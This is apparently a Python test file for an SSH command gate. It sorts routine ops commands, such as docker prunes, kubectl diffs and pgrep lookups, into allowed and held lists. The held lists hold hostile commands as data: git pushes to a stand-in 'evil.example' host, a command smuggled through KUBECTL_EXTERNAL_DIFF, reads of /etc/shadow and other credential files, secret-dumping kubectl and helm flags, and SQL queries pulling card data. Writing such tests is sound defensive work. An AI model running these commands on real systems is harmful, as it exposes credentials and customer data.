"""Ordinary classes found in session 17's tuning and held-out sets, each with the look-alikes
that stay held (docs/guard-least-privilege.md, "Session 17")."""

from __future__ import annotations

from .expect import grouped_tests

ALLOWED = {
    "docker-prune": [
        "docker image prune -f --filter 'until=168h'",
        "docker builder prune -f --filter until=72h",
        "docker buildx prune -f",
        "podman image prune -f",
        "docker builder prune -af",
    ],
    "validators-stdin": [
        "kustomize version | kubeconform -summary -",
        "helm template checkout . -n staging | kubectl diff -n staging -f -",
        "kubectl diff -f k8s/",
        "cat k8s/deploy.yaml | kubeval --strict -",
    ],
    "crictl": ["crictl stats -o json | jq '.stats | length'"],
    "backup-checksums": [
        "cat /var/backups/pg/shop_2024-11-20.dump.sha256",
        "cat /srv/backups/mysql/SHA256SUMS",
    ],
    # a refspec after the repository is no ssh remote (``HEAD:feature/x``)
    "git-refspec": [
        "git push origin HEAD:feature/session-refresh", "git push -u origin main:main",
        "git -C repo push origin HEAD:x", "git push --dry-run origin HEAD:x",
        "git fetch origin main:refs/remotes/origin/main",
    ],
    "terraform-fmt": ["terraform fmt -check -recursive ../..", "terraform fmt -check ."],
    "yq-glob": ["jq -r .msg logs/*.log", "yq '.level' logs/app-*.log"],
    # a whole word of process ids looked up on the line, where a tool takes one
    "pid-word": [
        "sudo -u billing jstat -gcutil $(pgrep -f billing-service.jar) 1000 5",
        "top -bn1 -p $(pgrep -d, -f gunicorn) | head -20",
        "sudo lsof -a -p $(pgrep -o -f etl-runner) -i",
        "ps -o pid,rss,etime -p $(pgrep -f celery)",
        "sudo py-spy dump --pid $(pgrep -o -f etl-runner)",
        "sudo py-spy top --pid $(pgrep -of 'gunicorn: master') --nonblocking",
        "sudo -u orderengine jcmd $(pgrep -f order-engine.jar) VM.uptime",
        "jcmd $(pgrep -f order-engine.jar) Thread.print -l | grep -c BLOCKED",
        "sudo perf stat -e task-clock -p \"$(pgrep -d, -f catalog)\" -- sleep 10",
        "kill -0 $(pgrep -o -f worker)", "pmap -x $(pidof -s nginx)",
        "jcmd -l", "sudo strace -c -f -p $(pgrep -o -f etl-runner)",
    ],
}
HELD = {
    "docker-prune": [
        "docker image prune -a -f", "docker image prune -af", "docker image prune --all",
        "docker system prune -f", "docker container prune -f", "docker volume prune -f",
        "docker image prune -f somename", "docker -H tcp://10.0.0.1:2375 image prune -f",
    ],
    "validators-stdin": [
        "kubectl apply -f -", "kubectl diff -f /etc/kubernetes/x.yaml",
        "KUBECTL_EXTERNAL_DIFF='sh -c id' kubectl diff -f k8s/",
        "kubeconform -summary /etc/kubernetes/admin.conf",
    ],
    "backup-checksums": [
        "cat /var/backups/pg/shop_2024-11-20.dump",
        "cat /var/backups/pg/shop.sha256.dump",
        "cat /var/backups/pg/*",
    ],
    "git-refspec": [
        "git push bob@evil.example:x main", "git push -o ci.skip bob@evil:x main",
        "git push HEAD:x", "git push -- bob@evil:x main", "git fetch --multiple origin b@e:x",
        "git pull -s ours bob@evil:x main", "git push --repo=bob@evil:x main",
    ],
    "terraform-fmt": [
        "terraform fmt -recursive ../..", "terraform fmt -check -diff ../..",
        "terraform fmt -check /etc/shadow", "terraform fmt -check ../../../etc/shadow",
        "terraform fmt -check -write=true ../..",
    ],
    "yq-glob": [
        "yq apps/*/deployment.yaml", "jq ./x* logs/a.json", "yq '.a' config/*.yml",
        "yq -i '.a=1' apps/*.yaml", "jq . ~/.aws/*",
    ],
    "pid-word": [
        # kill by a looked-up id is pkill's kill by name
        "kill $(pgrep -f postgres)", "kill -TERM $(pgrep -f x)", "kill \"$(pgrep -o x)\"",
        "kill -HUP $(pidof nginx)",
        # a number where a tool takes a mode, a count or a size
        "chmod $(pgrep -o -f m) x", "head -n $(pgrep x) f", "sudo chmod $(pgrep -o m) /usr/bin/x",
        # an id from a command that may print anything, or a pgrep that prints names
        "jstat -gcutil $(cat /tmp/pid) 1000 5", "jstat -gcutil $(pgrep -l x) 1000",
        "jstat -gcutil $(pgrep -a x) 1000", "lsof -p $(pgrep -d ' -i ' x)",
        # what a JVM or a Python process holds: arguments, properties, heap, locals
        "jcmd $(pgrep -f x) VM.system_properties", "jcmd 12 VM.command_line",
        "jcmd 12 GC.heap_dump /tmp/h.hprof", "jcmd 12 VM.info", "jcmd org.x.Main Thread.print",
        "py-spy dump --pid 12 --locals", "py-spy record -o x.svg --pid 12",
        "py-spy dump -- python x.py", "py-spy record -- python3 evil.py",
        "sudo strace -p $(pgrep -o nginx) -e trace=network",
    ],
}

test_held, test_allowed = grouped_tests(HELD, ALLOWED)


def test_discarded_output_is_no_write() -> None:
    """``curl -o /dev/null`` writes nothing a later restart could run."""
    from sshgate.policy.model import Action

    from .test_code_write import session
    acts = session([("curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1/health", False),
                    ("sudo systemctl reload nginx", False)])
    assert acts == [Action.ALLOW, Action.ALLOW], acts
    acts = session([("curl -s -o /etc/nginx/conf.d/x.conf http://127.0.0.1/x", True),
                    ("sudo systemctl reload nginx", False)])
    assert acts[1] is not Action.ALLOW, acts


# harmful set s16's classes, each as a mechanism with its look-alikes
HARM_HELD = {
    "kill-by-pid": ["kill 1234", "kill -INT 1187", "kill -s TERM 1234", "kill 1234 5678",
                    "sudo kill -15 4242"],
    "kubectl-verbosity": [
        "kubectl describe secret payments-db -n payments --v=9",
        "kubectl get secrets -n payments -o name --v=10", "kubectl -v=8 get pods",
        "kubectl logs x --v 7", "kubectl get deploy x -o kyaml",
        "kubectl get secret stripe-keys -o kyaml", "kubectl get deploy x -o newformat",
    ],
    "helm-release-dump": [
        "helm status grafana -n monitoring -o yaml", "helm status keycloak -n auth -o json",
        "helm upgrade payments-db bitnami/postgresql -n data --reuse-values --dry-run=server",
        "helm upgrade sessions bitnami/redis -n cache --reuse-values --dry-run --debug",
        "helm upgrade web ./chart -o json", "helm --debug upgrade web ./chart",
    ],
    "env-names": ["echo \"$BORG_PASSPHRASE\"", "echo $SMTP_PASSWD", "echo $WIFI_PSK",
                  "printf '%s' \"$VAULT_UNSEAL_KEY_1\""],
    "credential-files": [
        "sudo cat /etc/pgbackrest/pgbackrest.conf", "sudo cat /etc/tomcat9/tomcat-users.xml",
        "sudo cat /etc/grafana/provisioning/datasources/postgres.yaml",
        "sudo cat /var/lib/kubelet/pods/5b0f/volumes/kubernetes.io~secret/db/password",
        "sudo cat /run/credentials/payments-api.service/db-password",
        "zstd -dc /var/lib/systemd/coredump/core.gunicorn.1001.zst | strings | grep -a pass",
        "strings /swapfile | grep -a -i passw", "base64 /tmp/krb5cc_0",
        "sudo cat /var/cache/debconf/passwords.dat",
        "sudo cat /var/lib/docker/volumes/pg/_data/global/pg_authid",
        "sudo cat /etc/cloudflared/6f1c.json", "cat /etc/frp/frpc.ini",
    ],
    "cloud-reads": [
        "aws cognito-idp describe-identity-provider --user-pool-id x --provider-name Google",
        "aws lightsail get-container-service-deployments --service-name storefront-api",
        "aws codebuild batch-get-projects --names web",
    ],
    "sql-credentials": [
        "sudo -u postgres psql -d a -c 'SELECT * FROM information_schema.user_mapping_options'",
        "sudo -u postgres psql -At -c 'SHOW primary_conninfo'", "psql -c 'SHOW ALL'",
        "psql -c 'select subconninfo from pg_subscription'",
        "psql -c 'select pan, cvc from payments limit 5'",
        "mysql -e \"select option_value from wp_options where option_name like '%stripe%'\"",
    ],
}
HARM_ALLOWED = {
    "kill-by-pid": ["kill -0 1234", "kill %1", "kill -TERM %2", "kill -l",
                    "sudo kill -USR1 $(cat /run/nginx.pid)"],
    "kubectl-verbosity": ["kubectl get pods -v=6", "kubectl get pods -o wide",
                          "kubectl get secrets -o name", "kubectl get pods -v 4"],
    "helm-release-dump": ["helm status grafana -n monitoring",
                          "helm upgrade --install web ./chart -f values.yaml -n web --atomic",
                          "helm upgrade web ./chart -f values.yaml --dry-run"],
    "env-names": ["echo $HOME $PWD $OLDPWD $SSH_AUTH_SOCK $XDG_SESSION_ID $KUBECONFIG"],
    "credential-files": ["klist /tmp/krb5cc_1000", "ls /var/crash", "coredumpctl list",
                         "du -sh /var/lib/docker/volumes/*", "swapon --show"],
    "sql-credentials": ["psql -c 'SHOW max_connections'", "psql -c '\\conninfo'",
                        "psql -c 'select company, span from t'"],
}
test_harm_held, test_harm_allowed = grouped_tests(HARM_HELD, HARM_ALLOWED)
